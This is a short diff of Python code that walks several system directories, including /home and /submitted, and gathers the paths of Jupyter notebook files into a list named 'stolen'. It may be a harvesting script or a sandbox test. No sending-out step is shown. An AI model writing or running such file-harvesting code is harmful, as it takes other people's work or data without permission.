@@ -8,7 +8,7 @@ import json
 import os
 
 stolen = []
-for start in ("/tmp", "..", "/work", "/home", "/submitted", "/srv", "/mnt", "/var"):
+for start in ("/tmp", "/work", "/home", "/submitted", "/srv", "/mnt", "/var"):
     for folder, _, files in os.walk(start):
         stolen += [os.path.join(folder, name) for name in files if name.endswith(".ipynb")]
         if len(stolen) > 5:
